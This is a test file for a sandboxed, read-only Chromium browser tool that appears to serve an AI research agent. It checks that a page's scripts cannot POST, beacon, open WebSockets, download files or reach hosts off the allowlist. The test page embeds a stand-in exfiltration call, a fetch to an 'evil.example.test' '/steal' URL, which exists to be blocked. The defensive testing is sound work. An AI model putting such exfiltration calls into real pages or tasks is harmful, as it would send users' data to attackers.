/**
 * The read-only browser: Debian's chromium (playwright-core) rendering pages of a local site.
 * A page that builds its text with JavaScript is read; whatever a page tries beyond GETs to
 * allowlisted hosts (form POST, fetch/XHR POST, beacons, other hosts, WebSockets, downloads) never
 * reaches the site, which logs every request it sees.
 */
import { existsSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ResearchTools } from '../../src/agents/runtime/types.js';
import type { ResearchOptions } from '../../src/research/index.js';
import { CHROMIUM } from '../helpers/chromium.js';
import { html, type ResearchInput, researchTools, type Site, startSite } from '../helpers/research-site.js';

const DOCS = 'docs.example.test';
let site: Site;

beforeAll(async () => {
  if (!existsSync(CHROMIUM)) {
    throw new Error(
      `${CHROMIUM} is missing: install it with  apt-get install -y chromium  (npm test's pretest does)`,
    );
  }
  site = await startSite();
  const port = () => site.port;
  site.route('/data.json', (_req, res) =>
    res.writeHead(200, { 'content-type': 'application/json' }).end('{"msg":"from-json"}'),
  );
  site.route('/app', (req, res, url) =>
    html(
      `<div id="out">loading</div>
       <img src="/logo.png">
       <form id="f" method="post" action="/submit"><input name="a" value="1"></form>
       <script>
         fetch('/data.json').then((r) => r.json()).then((d) => {
           document.getElementById('out').textContent = 'built by script: ' + d.msg;
         });
         fetch('/api/post', { method: 'POST', body: 'x' }).catch(() => {});
         fetch('http://evil.example.test:${port()}/steal').catch(() => {});
         const x = new XMLHttpRequest(); x.open('POST', '/xhr'); x.send('y');
         navigator.sendBeacon('/beacon', 'z');
         try { new WebSocket('ws://docs.example.test:${port()}/ws'); } catch (e) {}
         setTimeout(() => document.getElementById('f').submit(), 20);
       </script>`,
      'Status of the widget API',
    )(req, res, url),
  );
  site.route('/to-evil', (_req, res) =>
    res.writeHead(302, { location: site.url('evil.example.test', '/app') }).end(),
  );
  site.route('/to-app', (_req, res) => res.writeHead(301, { location: '/app' }).end());
  site.route('/report.bin', (_req, res) =>
    res
      .writeHead(200, {
        'content-type': 'application/octet-stream',
        'content-disposition': 'attachment; filename=r.bin',
      })
      .end('BINARY'),
  );
  site.route(
    '/clicks-download',
    html(
      `<p>Release notes</p><a id="d" href="/report.bin" download>report</a>
       <script>document.getElementById('d').click();</script>`,
    ),
  );
  site.route('/hang', () => {
    // Never answers.
  });
});

afterAll(() => site?.close());

function tools(research: Partial<ResearchInput> = {}, options: Partial<ResearchOptions> = {}): ResearchTools {
  return researchTools(CHROMIUM, research, options);
}

// Each browse starts Chromium (seconds of CPU; far more on a loaded 2-core machine): the tests wait for
// what each read returns, bounded by this deadline, as the process tests do for a started bot.
describe('the read-only browser', { timeout: 60_000 }, () => {
  it('renders a page built by JavaScript, and nothing but GETs to allowlisted hosts leaves it', async () => {
    const research = tools();
    expect(research.tools.has('browser')).toBe(true);
    const start = site.seen.length;
    const page = await research.browse(site.url(DOCS, '/app'));
    expect(page).toMatchObject({
      url: site.url(DOCS, '/app'),
      status: 200,
      title: 'Status of the widget API',
    });
    expect(page.text).toContain('built by script: from-json');
    const seen = site.seen
      .slice(start)
      .map((r) => `${r.method} ${r.host} ${r.path}${r.upgrade ? ' (upgrade)' : ''}`);
    expect(seen).toEqual([`GET ${DOCS} /app`, `GET ${DOCS} /data.json`]);
    expect(research.cited()).toEqual([site.url(DOCS, '/app')]);
  });

  it('follows redirects itself and cites the page it rendered', async () => {
    const research = tools();
    const page = await research.browse(site.url(DOCS, '/to-app'));
    expect(page.url).toBe(site.url(DOCS, '/app'));
    expect(page.text).toContain('built by script');
    expect(research.cited()).toEqual([site.url(DOCS, '/app')]);
  });

  it('refuses a redirect to a host off the allowlist', async () => {
    const research = tools();
    await expect(research.browse(site.url(DOCS, '/to-evil'))).rejects.toMatchObject({
      code: 'not-allowed-host',
    });
    expect(site.seen.some((r) => r.host === 'evil.example.test')).toBe(false);
    expect(research.cited()).toEqual([]);
  });

  it('refuses hosts off the allowlist and blocked addresses before loading anything', async () => {
    await expect(tools().browse(site.url('evil.example.test', '/app'))).rejects.toMatchObject({
      code: 'not-allowed-host',
    });
    const before = site.seen.length;
    // By default the local site's loopback address is blocked.
    await expect(
      tools({ allowPrivateAddresses: false }).browse(site.url(DOCS, '/app')),
    ).rejects.toMatchObject({
      code: 'blocked-address',
      message: expect.stringContaining('127.0.0.1 (loopback)'),
    });
    expect(site.seen.length).toBe(before);
  });

  it('downloads nothing: a download is not a page, and a page that starts one is read without it', async () => {
    const research = tools();
    await expect(research.browse(site.url(DOCS, '/report.bin'))).rejects.toMatchObject({ code: 'not-text' });
    const page = await research.browse(site.url(DOCS, '/clicks-download'));
    expect(page.text).toContain('Release notes');
    expect(research.cited()).toEqual([site.url(DOCS, '/clicks-download')]);
  });

  it('gives up at research.timeout', async () => {
    await expect(tools({ timeout: '3s' }).browse(site.url(DOCS, '/hang'))).rejects.toMatchObject({
      code: 'timeout',
    });
  });

  it('cites exactly the pages read with every tool, in order', async () => {
    const research = tools();
    await research.fetch(site.url(DOCS, '/data.json'));
    await research.browse(site.url(DOCS, '/app'));
    await expect(research.browse(site.url(DOCS, '/report.bin'))).rejects.toThrow();
    expect(research.cited()).toEqual([site.url(DOCS, '/data.json'), site.url(DOCS, '/app')]);
  });
});
